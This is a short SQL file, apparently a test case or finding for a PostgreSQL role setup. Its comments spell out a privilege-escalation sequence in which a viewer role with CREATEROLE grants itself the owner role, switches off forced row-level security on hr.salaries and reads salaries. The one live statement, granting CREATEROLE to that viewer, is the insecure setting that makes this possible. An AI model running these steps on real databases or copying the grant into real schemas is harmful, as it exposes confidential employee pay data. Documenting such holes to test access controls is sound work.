-- A viewer makes itself the owner of all files: it may create roles.
-- about: ho_hr_viewer
-- as: ho_hr_viewer
-- exploit: SET hr.employer = 'aaaaaaaa-0000-4000-8000-000000000000';
-- exploit: GRANT ho_hr_owner TO ho_hr_viewer;
-- exploit: ALTER TABLE hr.salaries NO FORCE ROW LEVEL SECURITY;
-- exploit: SELECT amount FROM hr.salaries;
-- shows: 4711
ALTER ROLE ho_hr_viewer CREATEROLE;
